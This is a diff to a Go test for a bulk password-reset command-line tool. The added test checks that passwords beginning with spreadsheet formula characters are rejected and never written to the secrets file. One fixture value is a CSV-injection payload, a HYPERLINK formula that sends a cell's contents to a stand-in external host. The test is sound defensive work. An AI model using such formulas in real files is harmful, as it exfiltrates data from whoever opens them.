@@ -1,11 +1,13 @@
 package main
 
 import (
+	"encoding/csv"
 	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/bulkreset/bulkreset/pkg/graphsim"
+	"github.com/bulkreset/bulkreset/pkg/report"
 )
 
 // TestNumericFlagsOutOfRange: a numeric flag whose value means nothing (not
@@ -63,5 +65,73 @@ func TestNumericFlagsOutOfRange(t *testing.T) {
 		"--password-mode", "none", "--max-rate", "0.01", "--request-timeout", "1h", "--concurrency", "64", "--max-attempts", "100"}, tn.authArgs()...)...)
 	if res.code != exitOK {
 		t.Errorf("plan with every flag at the edge of its range: exit code %d, want 0; stderr:\n%s", res.code, res.stderr)
+	}
+}
+
+// TestPasswordColumnFormula: a Password cell beginning with = + - or @ (or
+// with quotes and then one of them) is what a spreadsheet runs as a formula
+// when the secrets file is opened. Escaping it would change the password a
+// person or a script reads from the file, so such a row is invalid with
+// its own reason and never sent; every other password is recorded exactly
+// as it was set.
+func TestPasswordColumnFormula(t *testing.T) {
+	users := graphsim.GenerateUsers(6, testDomain)
+	tn := startTenant(t, graphsim.Options{}, users)
+	dir := t.TempDir()
+	pws := []string{
+		`=HYPERLINK("http://x.example/?"&A1,"Open")1a`,
+		"+Blue-Kettle-42",
+		"-Blue-Kettle-42",
+		"@Blue-Kettle-42",
+		"'=Blue-Kettle-42",
+		"Blue-Kettle-42=", // a formula character elsewhere is harmless
+	}
+	var b strings.Builder
+	b.WriteString("UserPrincipalName,Password\n")
+	for i, pw := range pws {
+		b.WriteString(users[i].UPN + "," + csvCell(pw, ',') + "\n")
+	}
+	in := writeFile(t, dir, "users.csv", b.String())
+	results, secrets := filepath.Join(dir, "results.csv"), filepath.Join(dir, "secrets.csv")
+	res := runCLI(t, t.Context(), tn.getenv(nil), append([]string{"reset", "-i", in, "-o", results, "--secrets", secrets,
+		"--yes", "--password-mode", "column"}, tn.authArgs()...)...)
+	if res.code != exitRowsFailed {
+		t.Fatalf("exit code %d, want %d; stderr:\n%s", res.code, exitRowsFailed, res.stderr)
+	}
+	got := readResults(t, results)
+	recorded := readSecrets(t, secrets)
+	for i, pw := range pws {
+		line := i + 2
+		r := got[line]
+		u, _ := tn.sim.User(users[i].UPN)
+		if i < 5 {
+			if r.Outcome != report.Invalid || r.Reason != "password_formula" || u.PasswordSets != 0 {
+				t.Errorf("line %d: %s/%s, %d password sets; want invalid/password_formula, nothing sent", line, r.Outcome, r.Reason, u.PasswordSets)
+			}
+			if strings.Contains(r.ErrorMessage, pw) {
+				t.Errorf("line %d: the error message shows the password", line)
+			}
+			continue
+		}
+		if r.Outcome != report.Succeeded || u.Password != pw || recorded[strings.ToLower(users[i].UPN)] != pw {
+			t.Errorf("line %d: %s/%s; the password in force or recorded is not the Password cell", line, r.Outcome, r.Reason)
+		}
+	}
+	// No cell of the secrets file begins with a formula character.
+	cells, err := csv.NewReader(strings.NewReader(readFile(t, secrets))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, rec := range cells {
+		for _, cell := range rec {
+			if cell != "" && strings.ContainsAny(cell[:1], "=+-@") {
+				t.Errorf("secrets file has a cell a spreadsheet would run as a formula, in the row of %s", rec[1])
+			}
+		}
+	}
+	// check says the same, offline.
+	chk := runCheckCLI(t, b.String(), "-i", "-", "--password-mode", "column")
+	if chk.code != exitRowsFailed || !strings.Contains(chk.stdout+chk.stderr, "password_formula") {
+		t.Errorf("check: exit code %d, want %d with password_formula:\n%s%s", chk.code, exitRowsFailed, chk.stdout, chk.stderr)
 	}
 }
